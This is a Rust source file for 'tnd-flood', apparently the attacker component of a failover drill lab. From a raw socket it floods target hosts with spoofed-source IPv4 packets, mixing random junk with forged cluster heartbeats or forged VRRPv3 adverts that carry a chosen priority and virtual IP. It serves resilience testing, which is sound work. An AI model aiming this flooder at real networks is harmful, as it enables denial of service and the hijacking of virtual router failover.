//! `tnd-flood`: the flood drill's attacker. From a raw socket (root), sends IPv4 packets with a forged source address
//! to each `--pair TARGET,SOURCE[,NODE]` in turn, as fast as it can (or at `--rate` packets/s) for `--duration-ms`:
//! random junk and forged heartbeats of NODE to UDP `--port` (tandem), or junk and forged VRRPv3 adverts
//! (`--proto vrrp`, keepalived). Prints one JSON summary: packets sent, errors, rate.

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, anyhow, bail};
use clap::{Parser, ValueEnum};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use tandem_lab::flood::{IPPROTO_VRRP, Rng, forged_heartbeat, forged_vrrp, ipv4, ipv4_udp, junk};

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Proto {
    /// UDP to `--port` from the same port: tandem's heartbeat
    Udp,
    /// IP protocol 112: keepalived's VRRP
    Vrrp,
}

#[derive(Parser, Debug)]
#[command(
    about = "Flood targets with junk and forged packets from a spoofed source address (raw socket, root)"
)]
struct Args {
    /// TARGET,SOURCE[,NODE]: send to TARGET as if from SOURCE; forged heartbeats name NODE (default "peer")
    #[arg(long = "pair", required = true)]
    pairs: Vec<String>,
    #[arg(long, value_enum, default_value_t = Proto::Udp)]
    proto: Proto,
    /// the heartbeat port (source and destination)
    #[arg(long, default_value_t = 6694)]
    port: u16,
    /// `[cluster] name` in forged heartbeats
    #[arg(long, default_value = "openstack")]
    cluster: String,
    /// VRRP: the virtual router id, priority and VIP of forged adverts
    #[arg(long, default_value_t = 51)]
    vrid: u8,
    #[arg(long, default_value_t = 100)]
    priority: u8,
    #[arg(long, default_value = "192.168.1.250")]
    vip: Ipv4Addr,
    #[arg(long, default_value_t = 10_000)]
    duration_ms: u64,
    /// packets per second over all targets; 0 = as fast as possible
    #[arg(long, default_value_t = 0)]
    rate: u64,
    /// share of forged packets in percent (the rest is junk)
    #[arg(long, default_value_t = 50)]
    forged_percent: u64,
    #[arg(long)]
    out: Option<PathBuf>,
}

struct Target {
    to: SockAddr,
    label: String,
    /// Pre-built packets, cycled through: building them costs more than sending.
    packets: Vec<Vec<u8>>,
    sent: u64,
}

const POOL: usize = 256;

fn parse_pair(spec: &str) -> Result<(Ipv4Addr, Ipv4Addr, String)> {
    let mut parts = spec.split(',');
    let target = parts.next().ok_or_else(|| anyhow!("empty --pair"))?;
    let source = parts
        .next()
        .ok_or_else(|| anyhow!("--pair {spec}: TARGET,SOURCE[,NODE]"))?;
    let node = parts.next().unwrap_or("peer").to_string();
    Ok((
        target
            .parse()
            .with_context(|| format!("--pair {spec}: target"))?,
        source
            .parse()
            .with_context(|| format!("--pair {spec}: source"))?,
        node,
    ))
}

fn main() -> Result<()> {
    let args = Args::parse();
    let mut rng = Rng::new(tandem_lab::epoch_us() ^ u64::from(std::process::id()));
    let mut targets = Vec::new();
    for spec in &args.pairs {
        let (dst, src, node) = parse_pair(spec)?;
        let mut packets = Vec::with_capacity(POOL);
        for i in 0..POOL {
            let forged = (i as u64 * 100 / POOL as u64) < args.forged_percent;
            let packet = match args.proto {
                Proto::Udp => {
                    let payload = if forged {
                        forged_heartbeat(&mut rng, &args.cluster, &node)
                    } else {
                        junk(&mut rng)
                    };
                    ipv4_udp(src, args.port, dst, args.port, &payload)
                }
                Proto::Vrrp => {
                    let payload = if forged {
                        forged_vrrp(&mut rng, args.vrid, args.priority, args.vip)
                    } else {
                        junk(&mut rng)
                    };
                    ipv4(src, dst, IPPROTO_VRRP, &payload)
                }
            };
            packets.push(packet);
        }
        // Interleave forged and junk rather than sending them in two runs.
        for i in (1..packets.len()).rev() {
            let j = rng.range(0, i);
            packets.swap(i, j);
        }
        targets.push(Target {
            to: SockAddr::from(SocketAddr::V4(SocketAddrV4::new(dst, 0))),
            label: format!("{dst} as {src}"),
            packets,
            sent: 0,
        });
    }
    if targets.is_empty() {
        bail!("no --pair");
    }
    // IPPROTO_RAW: we write the whole IP header ourselves (IP_HDRINCL), forged source included.
    let socket = Socket::new(
        Domain::IPV4,
        Type::RAW,
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("raw socket (needs root or CAP_NET_RAW)")?;
    let _ = socket.set_send_buffer_size(4 << 20);
    let started = Instant::now();
    let deadline = started + Duration::from_millis(args.duration_ms);
    let (mut errors, mut total, mut i) = (0u64, 0u64, 0usize);
    let pace = (args.rate > 0).then(|| Duration::from_secs_f64(1.0 / args.rate as f64));
    while Instant::now() < deadline {
        // 64 packets between clock reads.
        for _ in 0..64 {
            let n = targets.len();
            let t = &mut targets[(total as usize) % n];
            let packet = &t.packets[i % POOL];
            match socket.send_to(packet, &t.to) {
                Ok(_) => t.sent += 1,
                Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) => {
                    // The qdisc/veth queue is full: that is the rate limit, not a failure.
                    errors += 1;
                    std::thread::yield_now();
                }
                Err(_) => errors += 1,
            }
            total += 1;
            if total.is_multiple_of(n as u64) {
                i += 1;
            }
        }
        if let Some(step) = pace {
            let due = started + step.mul_f64(total as f64);
            if let Some(wait) = due.checked_duration_since(Instant::now()) {
                std::thread::sleep(wait);
            }
        }
    }
    let secs = started.elapsed().as_secs_f64();
    let sent: u64 = targets.iter().map(|t| t.sent).sum();
    let per_target: serde_json::Map<String, serde_json::Value> = targets
        .iter()
        .map(|t| (t.label.clone(), serde_json::json!(t.sent)))
        .collect();
    let summary = serde_json::json!({
        "proto": format!("{:?}", args.proto).to_lowercase(),
        "sent": sent,
        "errors": errors,
        "duration_s": (secs * 1000.0).round() / 1000.0,
        "packets_per_s": (sent as f64 / secs).round(),
        "packets_per_s_per_target": (sent as f64 / secs / targets.len() as f64).round(),
        "forged_percent": args.forged_percent,
        "per_target": per_target,
    });
    match &args.out {
        Some(path) => std::fs::write(path, format!("{summary}\n"))?,
        None => {
            let mut out = std::io::stdout().lock();
            writeln!(out, "{summary}")?;
        }
    }
    Ok(())
}
